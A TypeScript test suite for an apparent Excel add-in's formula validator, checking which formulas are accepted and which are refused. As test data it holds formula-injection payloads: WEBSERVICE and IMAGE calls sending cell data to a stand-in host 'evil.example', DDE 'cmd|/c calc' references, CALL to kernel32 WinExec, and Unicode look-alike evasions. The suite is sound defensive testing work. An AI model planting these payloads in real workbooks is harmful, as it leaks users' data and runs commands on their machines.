import { readFileSync } from 'node:fs';
import path from 'node:path';
import fc from 'fast-check';
import { formulaRefusal, type WorkbookNames } from './formulaRefusal';
import { formulaTokens } from '../../../formulas/tokens';
import { isHarmless } from './harmlessFunctions';

const names: WorkbookNames = {
  sheets: new Set(['sheet1', 'roof, north', 'jan', 'dec', "o'neil", 'cmd|calc']),
  tables: new Set(['loads']),
  defined: new Map([
    ['snow', ['=Sheet1!$A$1']],
    ['twice', ['=LAMBDA(x,2*x)']],
    ['n', ['=WEBSERVICE("https://evil.example")']],
    ['sends', ['=Deeper+1']],
    ['deeper', ['=WEBSERVICE("https://evil.example")']],
    ['macro', ['=EXEC("calc")']],
    ['circle', ['=circle+1']],
    ['file', ["='[Book]Sheet1'!$A$1"]],
    ['webservice', ['=1']],
  ]),
};
const refusal = (formula: string) => formulaRefusal(formula, names);

/** Names that each stand for the one before, twice; it counts how often their formulas are read. */
function doublingNames(count: number, first: string) {
  const defined = new Map([['boom_0', [first]]]);
  for (let n = 1; n < count; n += 1) defined.set(`boom_${n}`, [`=boom_${n - 1}+boom_${n - 1}`]);
  const get = jest.spyOn(defined, 'get');
  return { ...names, defined, readings: () => get.mock.calls.length };
}

describe('names that name each other', () => {
  test('are read once each, however many formulas lead to them', () => {
    for (const count of [10, 100, 10_000]) {
      const doubling = doublingNames(count, '=1');
      expect(formulaRefusal(`=CALC.RUN(1)+boom_${count - 1}`, doubling)).toBeNull();
      expect(doubling.readings()).toBeLessThan(5 * count);
    }
  });

  test('hide nothing at the end of a long way, and the reason names its ends', () => {
    const doubling = doublingNames(10_000, '=WEBSERVICE("https://evil.example")');
    const reason = formulaRefusal('=CALC.RUN(1)+boom_9999', doubling);
    expect(reason).toContain(
      'in the name boom_9999, in the name boom_9998, in the name boom_1, in the name boom_0, it calls WEBSERVICE',
    );
  });

  test('in a circle hide nothing that one of them calls', () => {
    const circle = new Map([
      ['a', ['=b+1']],
      ['b', ['=a+c']],
      ['c', ['=a+WEBSERVICE("https://evil.example")']],
    ]);
    for (const name of circle.keys())
      expect(formulaRefusal(`=CALC.RUN(1)+${name}`, { ...names, defined: circle })).toContain(
        'it calls WEBSERVICE',
      );
  });
});

test.each([
  '=CALC.SNOW("7-22",A1,30,4)',
  '=calc.snow ("7-22", A1 , 30,4)',
  '=_xldudf_CALC_SNOW("7-22",A1,30,4)',
  '=@CALC.RUN("a",Sheet1!$A$1:$B$9)',
  "=CALC.RUN(\"a\",'Roof, north'!A:B)+SUM('O''Neil'!1:3)",
  '=CALC.RUN("a",Jan:Dec!A1,,"p")',
  '=IF(A1="",NA(),ROUND(CALC.BEAM("p",A1:B9)*1.5%,2)^-2)',
  '=LET(n,CALC.RUN("a",B1#),slope,2,n*slope)',
  '=MAP(A1:A9,LAMBDA(a,CALC.SNOW("7-22",a,,4)))',
  '=LET(f,LAMBDA(x,[y],CALC.SNOW("7-22",x,y,4)),f(2)+f(3,4))',
  '=LAMBDA(x,CALC.SNOW("7-22",x,30,4))(30)',
  '=BYROW(A1:B9,SUM)+CALC.RUN("a",A1)',
  '=twice(CALC.RUN("a",snow))+Sheet1!snow',
  "=CALC.RUN(\"a\",Loads[[#All],[Name]:[Value]])+SUM(Loads[a'[b''])",
  '=CALC.RUN("a",Loads)&[@Load]',
  '=_xlfn._xlws.SORT(_xlfn.VSTACK(CALC.RUN("a",A1),{1,-2;"x",TRUE;#N/A,FALSE}))',
  '=SUM((A1:B2,C3) B1:B9)+CALC.RUN("a",INDIRECT("Sheet1!A1:B2"))',
  '=IF(CALC.RUN("a",A1)<>"=WEBSERVICE(""https://evil.example"")",1,2)',
  '=CALC.RUN("a",A1)+circle',
  '=CALC.RUN("ｗｅｂ",A1)',
  '=CALC.RUN("a",A1)-#REF!',
  '=CALC.RUN("a",Sheet1!A1.pS+$B$2.[Governing check].x%)',
])('%s is written', (formula) => {
  expect(refusal(formula)).toBeNull();
});

test.each<[string, string]>([
  ['=WEBSERVICE("https://evil.example")', 'it calls no Calc function'],
  ['=1+1', 'it calls no Calc function'],
  ['=CALC.RUN("a",A1)&WEBSERVICE("https://evil.example/"&A1)', 'it calls WEBSERVICE'],
  ['=CALC.RUN("a",_xlfn.WEBSERVICE("https://evil.example"))', 'it calls _xlfn.WEBSERVICE'],
  ['=CALC.RUN("a",A1)&wEbSeRvIcE ("https://evil.example")', 'it calls wEbSeRvIcE'],
  ['=CALC.RUN("a",A1)&@WEBSERVICE("https://evil.example")', 'it calls WEBSERVICE'],
  ['=CALC.RUN("a",MAP(A1:A9,WEBSERVICE))', 'it calls WEBSERVICE'],
  ['=LET(f,WEBSERVICE,CALC.RUN("a",f("https://evil.example")))', 'it calls WEBSERVICE'],
  ['=LET(WEBSERVICE,LAMBDA(x,x),CALC.RUN("a",WEBSERVICE("https://evil.example")))', 'it calls WEBSERVICE'],
  ['=LET(f,1,CALC.RUN("a",f))+f("x")', 'it calls f'],
  ['=LAMBDA(x,CALC.RUN("a",x))(HYPERLINK("https://evil.example"))', 'it calls HYPERLINK'],
  ['=HYPERLINK("https://evil.example",CALC.RUN("a",A1))', 'it calls HYPERLINK'],
  ['=CALC.RUN("a",IMAGE("https://evil.example/"&A1))', 'it calls IMAGE'],
  ['=RTD("x",,CALC.RUN("a",A1))', 'it calls RTD'],
  ['=CALL("kernel32","WinExec","JCJ",CALC.RUN("a",A1))', 'it calls CALL'],
  ['=CALC.RUN("a",REGISTER.ID("a","b"))', 'it calls REGISTER.ID'],
  ['=CALC.RUN("a",CUBEVALUE("c","m"))', 'it calls CUBEVALUE'],
  ['=CALC.RUN("a",STOCKHISTORY("MSFT",1))', 'it calls STOCKHISTORY'],
  ['=CALC.RUN("a",SOMETHINGOFNEXTYEAR(1))', 'it calls SOMETHINGOFNEXTYEAR'],
  ['=CALC.RUN("a",OTHER.ADDIN(1))', 'it calls OTHER.ADDIN'],
  ['=CALC.RUN("a",A1)+CALC.SEND(1)', 'it calls CALC.SEND'],
  ['=CALC.RUN("a",_xludf.SEND(1))', 'it calls _xludf.SEND'],
  ['=CALC.RUN("a",A1)+cmd|\'/c calc\'!A1', 'it cannot be read as a formula'],
  ['=CALC.RUN("a",A1)+\'cmd|/c calc\'!A1', 'cmd|/c calc is not a worksheet of this workbook'],
  ['=CALC.RUN("a",A1)+\'cmd|calc\'!A1', 'cmd|calc is not a worksheet of this workbook'],
  ['=CALC.RUN("a",[Book]Sheet1!A1)', 'it refers to another workbook'],
  ['=CALC.RUN("a",[Book] Sheet1!A1)', 'it refers to another workbook'],
  ['=CALC.RUN("a",[Book]!snow)', 'it refers to another workbook'],
  ['=CALC.RUN("a",\'[Book]Sheet1\'!A1)', '[Book]Sheet1 is not a worksheet of this workbook'],
  ['=CALC.RUN("a",\'https://evil.example/[Book]Sheet1\'!A1)', 'https is not a worksheet of this workbook'],
  [
    '=CALC.RUN("a",\'\\\\evil.example\\share\\[Book]Sheet1\'!A1)',
    '\\\\evil.example\\share\\[Book]Sheet1 is not',
  ],
  ['=CALC.RUN("a",Book.xlsx!snow)', 'Book.xlsx is not a worksheet of this workbook'],
  ['=CALC.RUN("a",Sheet1:Other!A1)', 'Other is not a worksheet of this workbook'],
  ['=CALC.RUN("a",Sheet1!send(1))', 'it cannot be read as a formula'],
  ['=CALC.RUN("a",unknown)', 'unknown is not a name that this workbook defines'],
  ['=CALC.RUN("a",Sheet1!unknown)', 'unknown is not a name that this workbook defines'],
  ['=CALC.RUN("a",XFE1)', 'XFE1 is not a name that this workbook defines'],
  ['=CALC.RUN("a",A1048577)', 'A1048577 is not a name that this workbook defines'],
  ['=CALC.RUN("a",n)', 'in the name n, it calls WEBSERVICE'],
  ['=CALC.RUN("a",sends)', 'in the name sends, in the name Deeper, it calls WEBSERVICE'],
  ['=CALC.RUN("a",macro)', 'in the name macro, it calls EXEC'],
  ['=CALC.RUN("a",Sheet1!file)', 'in the name file, [Book]Sheet1 is not a worksheet'],
  ['=CALC.RUN("a",webservice("https://evil.example"))', 'it calls webservice'],
  ['=CALC.RUN("a",INDIRECT("[Book]Sheet1!A1"))', 'in its INDIRECT, it refers to another workbook'],
  ['=CALC.RUN("a",INDIRECT("[Bo"&"ok]Sheet1!A1"))', 'it calls INDIRECT with an address that is calculated'],
  ['=CALC.RUN("a",MAP(A1:A9,INDIRECT))', 'it calls INDIRECT'],
  [
    '=CALC.RUN("a",A1)+ＷＥＢＳＥＲＶＩＣＥ("https://evil.example")',
    'ＷＥＢＳＥＲＶＩＣＥ is written in letters',
  ],
  ['=CALC.RUN("a",A1)+WEBſERVICE("https://evil.example")', 'WEBſERVICE is written in letters'],
  ['=CALC.RUN("a",A1)+WEBSERVıCE("https://evil.example")', 'it calls WEBSERVıCE'],
  ['=CALC.RUN("a",A1)＋WEBSERVICE（"https://evil.example"）', 'it cannot be read as a formula'],
  ['=CALC.RUN("a",A1)+“x”', 'it cannot be read as a formula'],
  ['=CALC.RUN("a",A1)+"', 'it cannot be read as a formula'],
  ['=CALC.RUN("a",A1))', 'it cannot be read as a formula'],
  ['=CALC.RUN("a",A1', 'it cannot be read as a formula'],
  ['=CALC.RUN("a",.pS)', 'it cannot be read as a formula'],
  ['=CALC.RUN("a",{1.pS})', 'it cannot be read as a formula'],
  ['=CALC.RUN("a",T1.RUN(A1))', 'it calls T1.RUN'],
  ['=CALC.RUN("a",{A1})', 'it cannot be read as a formula'],
  [`=CALC.RUN("a",${'('.repeat(5000)}`, 'it is nested too deep'],
  [`=CALC.RUN("a",${'1+'.repeat(5000)}1)`, 'it is longer than Excel allows'],
])('%s is refused', (formula, reason) => {
  expect(refusal(formula)).toMatch(new RegExp(`^${reason.replaceAll(/[|\\[\]().]/g, String.raw`\$&`)}`));
});

const leaf = fc.constantFrom(
  'A1',
  '$B$2:C9',
  '1.5E-3',
  '"say ""no"""',
  'TRUE',
  '#N/A',
  'snow',
  "'O''Neil'!A:A",
  'Loads[Load]',
  '{1;2}',
);
const harmless = fc.letrec<{ formula: string }>((tie) => ({
  formula: fc.oneof(
    { maxDepth: 4, depthSize: 'small' },
    leaf,
    fc
      .tuple(
        fc.constantFrom('SUM', 'if', 'CALC.RUN', '_xlfn.VSTACK', 'twice'),
        fc.array(tie('formula'), { maxLength: 3 }),
      )
      .map(([name, given]) => `${name}(${given.join(',')})`),
    fc
      .tuple(tie('formula'), fc.constantFrom('+', ' - ', '&', '<>', ':', ' '), tie('formula'))
      .map((parts) => parts.join('')),
    fc
      .tuple(tie('formula'), tie('formula'))
      .map(([value, body]) => `LET(x_,${value},MAP(x_,LAMBDA(y_,y_+${body})))`),
    tie('formula').map((inner) => `(-${inner})%`),
  ),
})).formula;

test('what is made of harmless parts is written, and its parts are the whole of it', () => {
  fc.assert(
    fc.property(harmless, (body) => {
      const formula = `=CALC.RUN("a",A1)+${body}`;
      expect(
        formulaTokens(formula)
          ?.map(({ text }) => text)
          .join(''),
      ).toBe(formula.slice(1));
      expect(refusal(formula)).toBeNull();
    }),
  );
});

const dangers = fc.constantFrom(
  ...[
    'WEBSERVICE("u")',
    '_xlfn.webservice(A1)',
    'MAP(A1,WEBSERVICE)',
    'HYPERLINK("u")',
    'Rtd("a",,"b")',
    '[Book]Sheet1!A1',
  ],
  ...[
    "'[Book]x'!A1",
    "cmd|'x'!A1",
    'n',
    'unknown',
    'UDF(1)',
    'INDIRECT("[B]x!A1")',
    'INDIRECT(A1)',
    'ＣＡＬＬ("a")',
    'Sheet1!macro',
  ],
);

test('one part that reaches out makes the whole refused, wherever it stands', () => {
  fc.assert(
    fc.property(harmless, harmless, dangers, fc.nat(), (before, after, danger, at) => {
      const whole = [
        `${before}+${danger}&${after}`,
        `SUM(${before},${danger},${after})`,
        `LET(z_,${danger},${after}+z_)`,
        `LAMBDA(z_,${before})(${danger})`,
        `MAP(A1:A2,LAMBDA(z_,CALC.RUN(z_,${danger})))`,
        `IF(${before},${after},(-${danger})%)`,
      ];
      expect(refusal(`=CALC.RUN("a",${whole[at % whole.length] ?? ''})`)).not.toBeNull();
      // In a text it is not part of the formula.
      expect(refusal(`=CALC.RUN("${danger.replaceAll('"', '""')}",${before})`)).toBeNull();
    }),
  );
});

const pieces = fc.constantFrom(
  ...['A1', '1', '"t"', 'snow', 'x', 'SUM(', 'LET(', 'LET(x,', 'LAMBDA(x,', 'LAMBDA([y],', 'twice(', 'x('],
  ...['INDIRECT("A1")', '(', ')', '{', '}', ',', ';', '+', '%', '#', '@', ' ', ':', 'Loads[A]', 'TRUE', '<>'],
);
const reaching = fc.constantFrom(
  'WEBSERVICE("u")',
  'UDF(1)',
  'INDIRECT(A1)',
  '[Book]Sheet1!A1',
  "'[Book]x'!A1",
  'n',
);

test('no order of parts, also one that is not a formula, lets a part through that reaches out', () => {
  fc.assert(
    fc.property(fc.array(pieces, { maxLength: 12 }), reaching, fc.nat(12), (parts, reach, at) => {
      const isRefused = (given: string[]) => refusal(`=CALC.RUN(1)+${given.join('')}`) !== null;
      expect(isRefused(parts.toSpliced(at, 0, ' ', reach, ' '))).toBe(true);
    }),
    { numRuns: 2_000 },
  );
});

test('any text is judged without an error', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary', maxLength: 60 }), (text) => {
      const reason = refusal(`=CALC.RUN("a",A1)${text}`);
      expect(reason === null || reason.length > 0).toBe(true);
    }),
  );
});

test('every function of the add-in is one that may be written', () => {
  const file = path.resolve(__dirname, '../../functions/functions.json');
  const { functions } = JSON.parse(readFileSync(file, 'utf8')) as { functions: { name: string }[] };
  const ours = functions.map(({ name }) => `CALC.${name}`);
  expect(ours.filter((name) => !isHarmless(name))).toEqual([]);
});
